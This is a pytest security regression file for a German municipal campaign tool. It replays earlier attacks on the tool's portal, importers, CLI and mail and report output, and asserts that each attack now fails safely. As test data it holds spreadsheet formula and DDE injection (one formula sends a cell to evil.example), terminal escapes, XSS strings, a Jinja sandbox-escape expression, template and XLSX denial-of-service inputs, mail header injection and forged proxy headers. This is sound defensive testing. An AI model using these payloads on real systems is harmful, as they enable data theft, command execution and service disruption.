"""Every attack of issue 11, replayed: what held must still hold, what broke must now be safe.

Each test names the attack; the assertion is the safe outcome. The portal attacks run against
the real app on loopback (uvicorn), the import attacks through the importers and the CLI.
"""

# Fixtures come from test_portal_support; test parameters of the same name use them.
# ruff: noqa: F811

from __future__ import annotations

import csv
import io
import json
import os
import re
import secrets
import stat
import subprocess
import sys
import threading
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import GV100AD, REPO_ROOT
from sqlalchemy import Engine, func, select
from sqlmodel import Session
from test_collection_support import enrol, make_campaign
from test_portal_support import (  # noqa: F401 (fixtures)
    AALEN_MARKERS,
    ESSINGEN,
    SECRET,
    LivePortal,
    World,
    assert_no_aalen_data,
    basis_of,
    brake,
    csrf_of,
    portal,
    serve,
    world,
)
from typer.testing import CliRunner

from efa_rollout.cli import app
from efa_rollout.cli._common import print_json, print_table
from efa_rollout.db import session_scope
from efa_rollout.definitions import load_definition
from efa_rollout.errors import UserError
from efa_rollout.importers.contacts import import_contacts
from efa_rollout.importers.municipalities import import_municipalities
from efa_rollout.importers.tabular import MAX_CELL_CHARS, read_table
from efa_rollout.importers.validation import ImportErrors
from efa_rollout.mail.message import (
    InvalidAddressError,
    clean_header,
    contact_address,
    normalize_address,
    punycode_domain,
)
from efa_rollout.mail.render import MailRenderError, render_paragraph
from efa_rollout.mail.transport import parse_smtp_url
from efa_rollout.output_safety import markdown_cell, spreadsheet_text, terminal_text
from efa_rollout.portal.app import create_app
from efa_rollout.portal.security import FailureBrake, load_secret, redact
from efa_rollout.reports.tables import Column, Table
from efa_rollout.reports.text import table_csv
from efa_rollout.reports.xlsx import _workbook
from efa_rollout.settings import get_settings, mask_url
from models import Contact, Municipality

OSTALB = "08136"
AALEN = "08136088"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
]
ESCAPES = "Aalen\x1b[2J\x1b]0;gehackt\x07\x9b31m\u202eevil"


def run(*args: str) -> tuple[int, str]:
    """`efa ARGS` in-process: exit code and output (UserErrors rendered as the script does)."""
    result = CliRunner().invoke(app, list(args))
    if isinstance(result.exception, UserError):
        return result.exception.exit_code, result.output + result.exception.render()
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


def import_ostalb(engine: Engine) -> None:
    with session_scope(engine) as session:
        import_municipalities(session, GV100AD, district=OSTALB)


def municipality_count(engine: Engine) -> int:
    with Session(engine) as session:
        return session.execute(select(func.count()).select_from(Municipality)).scalar_one()


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# =============================================================================================
# 1. Credentials at rest: the data folder is private
# =============================================================================================


def test_data_folder_database_and_secret_are_private(efa_env: Path, engine: Engine) -> None:
    if engine.dialect.name != "sqlite":
        pytest.skip("file modes concern the SQLite file")
    import_ostalb(engine)  # writes: -wal and -shm exist now
    database = Path(engine.url.database or "")
    assert mode(efa_env) == 0o700
    for path in (database, database.with_name(database.name + "-wal")):
        assert mode(path) == 0o600, path
    shm = database.with_name(database.name + "-shm")
    if shm.exists():
        assert mode(shm) == 0o600
    load_secret(efa_env)
    assert mode(efa_env / "portal-secret") == 0o600


def test_an_old_world_readable_database_is_tightened(tmp_path: Path) -> None:
    from efa_rollout.db import make_engine

    folder = tmp_path / "alt"
    folder.mkdir(mode=0o755)
    database = folder / "efa.db"
    database.touch(mode=0o644)
    os.chmod(folder, 0o755)
    os.chmod(database, 0o644)
    make_engine(f"sqlite:///{database}").dispose()
    assert (mode(folder), mode(database)) == (0o700, 0o600)


def test_a_database_in_a_shared_folder_leaves_the_folder_open(tmp_path: Path) -> None:
    """A database put straight into /tmp must not close /tmp for everybody else."""
    from efa_rollout.db import make_engine

    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    database = shared / "kampagnen.db"
    make_engine(f"sqlite:///{database}").dispose()
    assert stat.S_IMODE(shared.stat().st_mode) == 0o1777
    assert mode(database) == 0o600


def test_mail_files_and_reports_are_private(tmp_path: Path) -> None:
    from efa_rollout.mail.sink import FolderSink
    from efa_rollout.private_files import write_private
    from efa_rollout.reports.files import _write

    report = _write(tmp_path / "berichte" / "bericht.xlsx", b"x")
    assert (mode(report.parent), mode(report)) == (0o700, 0o600)
    eml = write_private(tmp_path / "mail" / "1.eml", b"Subject: x\r\n\r\n", fsync=True)
    assert (mode(eml.parent), mode(eml)) == (0o700, 0o600)
    FolderSink(tmp_path / "sink")
    assert mode(tmp_path / "sink") == 0o700


# =============================================================================================
# 2./3. Formula injection and control characters in XLSX and CSV
# =============================================================================================


def _table(values: list[str]) -> Table:
    return Table(
        "Gemeinden", [Column("Gemeinde"), Column("Zahl", "int")], [[v, -3] for v in values]
    )


def test_formulas_in_directory_text_stay_text_in_xlsx_and_csv() -> None:
    from openpyxl import load_workbook

    content = _workbook([_table(FORMULAS)])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # no formula cell at all
    assert [cell.value for cell in cells] == ["'" + v for v in FORMULAS]
    assert sheet.cell(2, 2).value == -3  # numbers stay numbers

    text = table_csv(_table(FORMULAS)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert [row[0] for row in rows] == ["'" + v for v in FORMULAS]
    assert {row[1] for row in rows} == {"-3"}


def test_control_characters_no_longer_crash_the_workbook() -> None:
    from openpyxl import load_workbook

    content = _workbook([_table(["Aalen\x00\x07\x1b[31m\x0bStadt", "Ok"])])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.cell(2, 1).value == "Aalen[31mStadt"
    assert spreadsheet_text("a\tb\nc") == "a\tb\nc"  # tab and newline are text, kept


# =============================================================================================
# 7. Unescaped output: Markdown report and artifacts, terminal
# =============================================================================================


def test_markdown_cells_cannot_format_link_or_break_the_table() -> None:
    payload = "[Klick](javascript:alert(1)) <img src=x onerror=alert(1)> | **fett**\n# Titel"
    cell = markdown_cell(payload)
    assert "\n" not in cell
    assert re.search(r"(?<!\\)[\[\]()<>*|#]", cell) is None  # every special char escaped
    assert markdown_cell("- Liste") == "\\- Liste" and markdown_cell("1. Punkt") == "1\\. Punkt"


def test_markdown_report_escapes_municipality_names() -> None:
    from efa_rollout.reports import text

    # The Markdown report is a template (templates/reports/campaign.md.j2): its `md` filter.
    md = text.markdown_environment().filters["md"]
    assert md("<script>x</script>|") == "\\<script\\>x\\</script\\>\\|"


def test_record_response_artifact_escapes_the_author() -> None:
    from flows.record_response import RecordResponseInput, _markdown

    params = RecordResponseInput.model_construct(
        campaign="c", author="[x](http://evil.example) <b>", checklist_done=[], checklist_reopen=[]
    )
    result = {"ags": AALEN, "checklist_done": [], "checklist_reopened": [], "required_open": 1}
    markdown = _markdown(params, result)
    assert "[x](" not in markdown and "<b>" not in markdown


def test_terminal_output_shows_escape_sequences_instead_of_running_them(
    capsys: pytest.CaptureFixture[str],
) -> None:
    print_table(["Feld", "Antwort"], [["notiz", ESCAPES]])
    print_json({"notiz": ESCAPES})
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\u202e" not in out
    assert "\\x1b[2J" in out
    assert json.loads(out[out.index("{") :])["notiz"] == ESCAPES  # JSON stays exact


def test_response_and_checklist_show_print_portal_input_safely(session: Session) -> None:
    from efa_rollout.cli.collection import checklist_app, response_app
    from efa_rollout.services.answers import save_answers
    from efa_rollout.services.checklist import set_checklist_item
    from models import utcnow

    campaign, definition = make_campaign(session)
    enrolment = enrol(session, campaign, definition, AALEN)
    save_answers(
        session,
        enrolment=enrolment,
        answers={"offene_punkte": ESCAPES},
        submit=False,
        source="portal",
        author="Portal",
        now=utcnow(),
    )
    set_checklist_item(
        session,
        enrolment=enrolment,
        item_key="schulung",
        done=True,
        note=ESCAPES[:60],
        source="portal",
        author="Portal",
        now=utcnow(),
    )
    session.commit()
    import typer

    cli = typer.Typer()
    cli.add_typer(response_app, name="response")
    cli.add_typer(checklist_app, name="checklist")
    for args in (["response", "show"], ["checklist", "show"]):
        result = CliRunner().invoke(cli, [*args, campaign.id, AALEN])
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "\\x1b[2J" in result.output


def test_the_efa_script_filters_everything_it_prints(efa_env: Path) -> None:
    """The console script wraps stdout/stderr: even a plain echo cannot emit escapes."""
    code = (
        "import sys, typer; from efa_rollout.cli import main, app\n"
        "@app.command('zz')\n"
        "def zz():\n"
        f"    typer.echo({ESCAPES!r}); typer.echo({ESCAPES!r}, err=True)\n"
        "sys.argv = ['efa', 'zz']; main()\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, timeout=60, cwd=REPO_ROOT
    )
    assert done.returncode == 0, done.stderr
    for stream in (done.stdout, done.stderr):
        assert b"\x1b" not in stream and b"\x07" not in stream and b"\xe2\x80\xae" not in stream


# =============================================================================================
# 4. Imports that cannot be tricked
# =============================================================================================


@pytest.mark.parametrize("ags", ["８１３６０８８", "٠٨١٣٦٠٨٨", "۰۸۱۳۶۰۸۸", "08136٠88"])
def test_non_ascii_digits_are_no_ags(engine: Engine, tmp_path: Path, ags: str) -> None:
    import_ostalb(engine)
    before = municipality_count(engine)
    path = tmp_path / "ags.csv"
    path.write_text(f"AGS;Name\n{ags};Aalen\n", encoding="utf-8")
    code, output = run("municipalities", "import", str(path))
    assert code == 1
    assert "kein gültiger Gemeindeschlüssel" in output
    assert municipality_count(engine) == before


def test_an_attribute_file_cannot_invent_a_municipality(engine: Engine, tmp_path: Path) -> None:
    import_ostalb(engine)
    before = municipality_count(engine)
    path = tmp_path / "attribute.csv"
    path.write_text("ags,name,baurechtsbehoerde\n08136999,Phantasia,eigene\n", encoding="utf-8")
    code, output = run("municipalities", "import", str(path))
    assert code == 1
    assert "attribute.csv, Zeile 2: »08136999« – Gemeinde nicht im amtlichen" in output
    assert municipality_count(engine) == before


def test_a_contact_file_naming_an_unknown_ags_is_refused(engine: Engine, tmp_path: Path) -> None:
    import_ostalb(engine)
    path = tmp_path / "kontakte.csv"
    path.write_text("AGS;Rolle;E-Mail\n08136999;Hauptamt;a@b.example\n", encoding="utf-8")
    with pytest.raises(ImportErrors) as caught, session_scope(engine) as session:
        import_contacts(session, path)
    assert "kontakte.csv, Zeile 2" in caught.value.render()
    assert "nicht im Verzeichnis" in caught.value.render()


def test_a_utf8_file_with_one_cp1252_line_is_refused_naming_it(tmp_path: Path) -> None:
    path = tmp_path / "gemischt.csv"
    path.write_bytes(
        "AGS;Name\n08136088;Schwäbisch\n".encode() + "08136009;Böbingen\n".encode("cp1252")
    )
    with pytest.raises(UserError) as caught:
        read_table(path)
    assert "mischt Kodierungen: Zeile 2 ist UTF-8, Zeile 3 nicht" in caught.value.message


def test_a_pure_cp1252_file_still_imports(tmp_path: Path) -> None:
    path = tmp_path / "ansi.csv"
    path.write_bytes("AGS;Name\n08136009;Böbingen\n".encode("cp1252"))
    table = read_table(path)
    assert (table.encoding, table.rows[0].cells) == ("cp1252", ("08136009", "Böbingen"))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
def test_boms_are_recognised(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "bom.csv"
    text = "AGS;Name\n08136009;Böbingen\n"
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    path.write_bytes(data)
    assert read_table(path).rows[0].cells == ("08136009", "Böbingen")


def test_utf16_without_bom_is_named(tmp_path: Path) -> None:
    path = tmp_path / "utf16.csv"
    path.write_bytes("AGS;Name\n08136009;Böbingen\n".encode("utf-16-le"))
    with pytest.raises(UserError) as caught:
        read_table(path)
    assert "UTF-16 ohne Kennung" in caught.value.message


def _crafted_xlsx(path: Path, dimension: str, extra_rows: str = "", cell: str = "Aalen") -> Path:
    """An XLSX whose sheet XML declares DIMENSION (and holds EXTRA_ROWS), a few KB in size."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["AGS", "Name"])
    sheet.append([AALEN, cell])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                xml = re.sub(
                    r'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>', data.decode()
                )
                data = xml.replace("</sheetData>", extra_rows + "</sheetData>").encode()
            out.writestr(item, data)
    return path


def _import_under_memory_limit(path: Path, env_dir: Path, limit_mb: int = 1024) -> Any:
    code = (
        "import resource, sys\n"
        f"resource.setrlimit(resource.RLIMIT_AS, ({limit_mb} << 20, {limit_mb} << 20))\n"
        "from efa_rollout.cli import main\n"
        f"sys.argv = ['efa', 'municipalities', 'import', {str(path)!r}]\n"
        "main()\n"
    )
    env = {**os.environ, "EFA_DATA_DIR": str(env_dir)}
    env.pop("EFA_DATABASE_URL", None)
    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=env, timeout=300
    )


@pytest.mark.slow
def test_xlsx_declaring_a_huge_sheet_ends_with_a_clear_error_under_a_memory_limit(
    tmp_path: Path,
) -> None:
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    path = _crafted_xlsx(tmp_path / "riesig.xlsx", "A1:XFD1048576", far)
    assert path.stat().st_size < 10_000
    done = _import_under_memory_limit(path, tmp_path / "data")
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
    assert "Fehler: Die Datei »riesig.xlsx«" in done.stderr


def test_xlsx_declared_dimensions_are_ignored(tmp_path: Path) -> None:
    small = read_table(_crafted_xlsx(tmp_path / "klein.xlsx", "A1:A1"))
    assert small.headers == ("AGS", "Name") and small.rows[0].cells == (AALEN, "Aalen")
    huge = read_table(_crafted_xlsx(tmp_path / "gross.xlsx", "A1:XFD1048576"))
    assert len(huge.rows) == 1 and len(huge.rows[0].cells) == 2


def test_xlsx_too_many_columns_is_refused(tmp_path: Path) -> None:
    wide = '<row r="3"><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>'
    with pytest.raises(UserError) as caught:
        read_table(_crafted_xlsx(tmp_path / "breit.xlsx", "A1:B2", wide))
    assert "Zeile 3: 16384 Spalten (höchstens 200)" in caught.value.message


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_huge_cell_is_refused_and_shortened_in_the_message(tmp_path: Path, fmt: str) -> None:
    cell = "A" * 100 + "Z" * (MAX_CELL_CHARS * 3)
    if fmt == "csv":
        path = tmp_path / "zelle.csv"
        path.write_text(f"AGS;Name\n{AALEN};{cell}\n", encoding="utf-8")
    else:
        path = _crafted_xlsx(tmp_path / "zelle.xlsx", "A1:B2", cell=cell)
    with pytest.raises(UserError) as caught:
        read_table(path)
    rendered = caught.value.render()
    assert len(rendered) < 400 and "Zeile 2" in rendered and "Zeichen" in rendered


def test_values_in_row_errors_are_shortened(engine: Engine, tmp_path: Path) -> None:
    import_ostalb(engine)
    path = tmp_path / "lang.csv"
    path.write_text(f"AGS;Einwohner\n{AALEN};{'9x' * 3000}\x1b[2J\n", encoding="utf-8")
    code, output = run("municipalities", "import", str(path))
    assert code == 1 and "keine gültige Einwohnerzahl" in output
    assert len(output) < 800 and "\x1b" not in output


# =============================================================================================
# 5. Definitions: compiled on load, bounded rendering, German messages
# =============================================================================================


def _definition_with(tmp_path: Path, extra: str) -> Path:
    source = (REPO_ROOT / "templates" / "campaigns" / "ewa.yaml").read_text(encoding="utf-8")
    path = tmp_path / "eigene.yaml"
    path.write_text(source.replace("key: ewa\n", "key: eigene\n", 1) + extra, encoding="utf-8")
    return path


def test_a_jinja_syntax_error_is_found_when_the_definition_loads(tmp_path: Path) -> None:
    path = _definition_with(tmp_path, 'mail:\n  reminder: "{% for x in %}"\n')
    with pytest.raises(UserError) as caught:
        load_definition(path)
    assert "Feld mail: reminder: Jinja-Syntaxfehler in Zeile 1" in caught.value.render()


def test_validation_messages_are_german(tmp_path: Path) -> None:
    path = _definition_with(tmp_path, "unbekannt: 1\n").read_text(encoding="utf-8")
    broken = tmp_path / "kaputt.yaml"
    broken.write_text(path.replace("type: yesno", "type: janein", 1), encoding="utf-8")
    with pytest.raises(UserError) as caught:
        load_definition(broken)
    rendered = caught.value.render()
    assert "Input should be" not in rendered and "Extra inputs" not in rendered
    assert "muss einer dieser Werte sein" in rendered and "ist hier nicht vorgesehen" in rendered


@pytest.mark.parametrize(
    "source",
    [
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "{% for i in range(1000) %}{% for j in range(1000) %}x{% endfor %}{% endfor %}",
        "{{ 'x' * 100000000 }}",
        "{{ 'x'.ljust(1000000000) }}",
        "{{ 'x'|center(1000000000) }}",
        "{{ 10 ** 10 ** 10 }}",
        "{{ 2 ** 64 * 2 ** 64 * 2 ** 64 * 2 ** 64 * 2 ** 64 }}",
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}",
        "{% set l = ['x'] %}{% for i in range(60) %}{{ l.extend(l) }}{% endfor %}",
        "{% set l = [1] %}{% for x in l %}{{ l.append(x) }}{% endfor %}",
        "{% for x in 'abcdefghij' * 1000 %}{% for y in 'abcdefghij' * 1000 %}{% endfor %}"
        "{% endfor %}",
        "{% macro r(n) %}{{ r(n) }}{% endmacro %}{{ r(1) }}",
        "{{ 1 / 0 }}",
        "{{ 10 ** 5000 }}",
        "{{ (10 ** 400) * 1.5 }}",
    ],
)
def test_runaway_paragraphs_end_with_a_german_error(source: str) -> None:
    with pytest.raises(MailRenderError) as caught:
        render_paragraph(source, {"kommune": "Aalen"})
    assert caught.value.message.startswith("Zusatztext der Kampagnendefinition")


def test_a_normal_paragraph_still_renders() -> None:
    source = "Liebe {{ kommune }},{% for i in range(3) %} {{ i }}{% endfor %}"
    assert render_paragraph(source, {"kommune": "Aalen"}) == "Liebe Aalen, 0 1 2"


def test_the_sandbox_still_refuses_escapes() -> None:  # held
    with pytest.raises(MailRenderError) as caught:
        render_paragraph("{{ ''.__class__.__mro__[1].__subclasses__() }}", {})
    assert "unzulässigen Ausdruck" in caught.value.message


# =============================================================================================
# 6. The bad-link brake, proxies, Host, Origin, long text
# =============================================================================================


def test_a_valid_link_opens_behind_a_nat_others_guessed_from(
    portal: LivePortal, world: World
) -> None:
    for _ in range(5):  # the fixture's brake allows 5 a minute
        assert portal.client.get(f"/p/{secrets.token_urlsafe(24)}").status_code == 404
    assert portal.client.get(f"/p/{secrets.token_urlsafe(24)}").status_code == 429
    assert portal.page(world.essingen_token).status_code == 200
    assert portal.page(world.aalen_token).status_code == 200


def test_a_concurrent_burst_cannot_pass_the_limit(engine: Engine, world: World) -> None:
    brake = FailureBrake(max_failures=5, window=60, base_delay=0.0, max_delay=0.0)
    app = create_app(engine=engine, secret=SECRET, brake=brake)
    statuses: list[int] = []
    lock = threading.Lock()
    with serve(app) as url:
        start = threading.Barrier(30)

        def guess() -> None:
            with httpx.Client(base_url=url, timeout=30) as client:
                start.wait()
                status = client.get(f"/p/{secrets.token_urlsafe(24)}").status_code
            with lock:
                statuses.append(status)

        threads = [threading.Thread(target=guess) for _ in range(30)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        with httpx.Client(base_url=url, timeout=30) as client:
            valid = client.get(f"/p/{world.essingen_token}").status_code
    assert sorted(statuses) == [404] * 5 + [429] * 25
    assert valid == 200


def test_many_addresses_together_are_braked_overall() -> None:
    brake = FailureBrake(max_failures=20, global_failures=10, base_delay=0.0, max_delay=0.0)
    penalties = [brake.record_failure(f"10.0.0.{n}", now=1.0) for n in range(12)]
    assert [p.blocked for p in penalties] == [False] * 10 + [True] * 2


def _proxied_portal(engine: Engine, trusted: str) -> Any:
    settings = get_settings().model_copy(update={"portal_trusted_proxies": trusted})
    brake = FailureBrake(max_failures=3, window=60, base_delay=0.0, max_delay=0.0)
    return create_app(engine=engine, secret=SECRET, brake=brake, settings=settings)


def test_trusted_proxy_clients_are_braked_one_by_one(engine: Engine, world: World) -> None:
    with serve(_proxied_portal(engine, "127.0.0.1")) as url, httpx.Client(base_url=url) as client:
        for _ in range(4):
            client.get(f"/p/{secrets.token_urlsafe(24)}", headers={"X-Forwarded-For": "10.1.1.1"})
        other = client.get(
            f"/p/{secrets.token_urlsafe(24)}", headers={"X-Forwarded-For": "10.2.2.2"}
        )
        guesser = client.get(
            f"/p/{secrets.token_urlsafe(24)}", headers={"X-Forwarded-For": "10.1.1.1"}
        )
    assert (other.status_code, guesser.status_code) == (404, 429)


def test_an_untrusted_peer_cannot_pick_its_address(engine: Engine, world: World) -> None:
    with serve(_proxied_portal(engine, "10.9.9.9")) as url, httpx.Client(base_url=url) as client:
        for n in range(4):  # a new forged address each time: still counted as the real peer
            client.get(
                f"/p/{secrets.token_urlsafe(24)}", headers={"X-Forwarded-For": f"10.0.0.{n}"}
            )
        forged = client.get(
            f"/p/{secrets.token_urlsafe(24)}", headers={"X-Forwarded-For": "10.5.5.5"}
        )
    assert forged.status_code == 429


def test_bad_trusted_proxy_setting_is_a_german_error(engine: Engine) -> None:
    with pytest.raises(UserError, match=re.escape("EFA_PORTAL_TRUSTED_PROXIES: »proxy.intern«")):
        _proxied_portal(engine, "127.0.0.1, proxy.intern")


@pytest.mark.parametrize("path", ["/p/{token}/", "//evil.example/", "/p/{token}//"])
def test_the_slash_redirect_does_not_reflect_host(
    portal: LivePortal, world: World, path: str
) -> None:
    url = portal.url + path.format(token=world.essingen_token)  # keeps `//` in the path
    response = portal.client.get(url, headers={"Host": "evil.example"})
    assert response.status_code == 308
    location = response.headers["location"]
    assert location.startswith("/") and not location.startswith("//")
    assert "://" not in location


def test_a_foreign_origin_is_refused_without_sec_fetch_site(
    portal: LivePortal, world: World
) -> None:
    page = portal.page(world.essingen_token).text
    data = {"csrf": csrf_of(page), "basis": basis_of(page), "aktion": "entwurf"}
    for origin in ("https://evil.example", "null"):
        refused = portal.post(world.essingen_token, "fragebogen", data, headers={"Origin": origin})
        assert refused.status_code == 403
    assert world.responses(world.essingen_enrolment) == []
    own = portal.post(world.essingen_token, "fragebogen", data, headers={"Origin": portal.url})
    assert own.status_code == 303


def test_cross_site_post_with_a_valid_csrf_token_is_refused(  # held
    portal: LivePortal, world: World
) -> None:
    page = portal.page(world.essingen_token).text
    response = portal.post(
        world.essingen_token,
        "fragebogen",
        {"csrf": csrf_of(page), "basis": basis_of(page), "aktion": "entwurf"},
        headers={"Sec-Fetch-Site": "cross-site"},
    )
    assert response.status_code == 403


def test_missing_csrf_token_is_refused(portal: LivePortal, world: World) -> None:  # held
    response = portal.post(world.essingen_token, "fragebogen", {"aktion": "entwurf"})
    assert response.status_code == 403


def test_a_long_text_is_kept_when_the_form_is_shown_again(portal: LivePortal, world: World) -> None:
    text = "Anfang " + "lang " * 1500 + "ENDE-DES-TEXTS"
    assert len(text) > 7000
    response = portal.answers(world.essingen_token, {"f.offene_punkte": text})
    assert response.status_code == 422
    assert "zu lang" in response.text
    assert "ENDE-DES-TEXTS" in response.text


def test_a_token_opens_only_its_own_municipality(portal: LivePortal, world: World) -> None:  # held
    page = portal.page(world.essingen_token)
    assert page.status_code == 200
    assert_no_aalen_data(page.text)


def test_oversized_body_is_refused(portal: LivePortal, world: World) -> None:  # held
    response = portal.post(world.essingen_token, "fragebogen", {"f.x": "y" * 70_000})
    assert response.status_code == 413


def test_security_headers_and_no_token_in_logs(portal: LivePortal, world: World) -> None:  # held
    response = portal.page(world.essingen_token)
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["cache-control"] == "no-store"
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert world.essingen_token not in redact(f"GET /p/{world.essingen_token} HTTP/1.1")


# =============================================================================================
# 8. Addresses, header injection, IDN, SMTP configuration
# =============================================================================================


def test_a_non_ascii_local_part_is_refused_at_import(engine: Engine, tmp_path: Path) -> None:
    import_ostalb(engine)
    path = tmp_path / "kontakte.csv"
    path.write_text("AGS;Rolle;E-Mail\n08136088;Hauptamt;müller@aalen.de\n", encoding="utf-8")
    with pytest.raises(ImportErrors) as caught, session_scope(engine) as session:
        import_contacts(session, path)
    rendered = caught.value.render()
    assert "kontakte.csv, Zeile 2" in rendered and "vor dem @" in rendered
    with Session(engine) as session:
        assert session.execute(select(func.count()).select_from(Contact)).scalar_one() == 0


def test_a_non_ascii_local_part_is_refused_in_the_portal(portal: LivePortal, world: World) -> None:
    page = portal.page(world.essingen_token).text
    data = {
        "csrf": csrf_of(page),
        "k.rows": "1",
        "aktion": "speichern",
        "k.0.role": "Hauptamt",
        "k.0.name": "Jörg Müller",
        "k.0.email": "jörg.müller@essingen.example",
    }
    response = portal.post(world.essingen_token, "kontakte", data)
    assert response.status_code == 422
    assert "vor dem @" in response.text
    with world.session() as session:
        emails = [
            c.email for c in session.exec(select(Contact).where(Contact.ags == ESSINGEN)).scalars()
        ]  # type: ignore[call-overload]
    assert "jörg.müller@essingen.example" not in emails


def test_an_idn_domain_is_fine_and_sent_in_punycode() -> None:  # held
    assert contact_address("info@böbingen.de") == "info@böbingen.de"
    assert normalize_address("info@böbingen.de") == "info@xn--bbingen-90a.de"
    assert punycode_domain("BÖBINGEN.de") == "xn--bbingen-90a.de"


@pytest.mark.parametrize(
    "value", ["a@b.de\r\nBcc: x@evil.example", "a@b.de\nBcc: x", "a\u2028@b.de"]
)
def test_header_injection_in_addresses_is_refused(value: str) -> None:  # held
    with pytest.raises(InvalidAddressError):
        normalize_address(value)
    assert "\n" not in clean_header("Betreff\r\nBcc: x@evil.example")


@pytest.mark.parametrize("url", ["smtp://relay:abc", "smtp://relay:99999", "smtp://relay:0"])
def test_an_invalid_smtp_port_is_a_german_error(url: str) -> None:
    with pytest.raises(UserError, match="der Port ist ungültig"):
        parse_smtp_url(url, timeout=5)


def test_secrets_are_masked() -> None:  # held
    assert "geheim" not in mask_url("smtp://user:geheim@relay:587")


def test_terminal_text_keeps_ordinary_text() -> None:
    assert terminal_text("Schwäbisch Gmünd – 12 %\n\tok") == "Schwäbisch Gmünd – 12 %\n\tok"
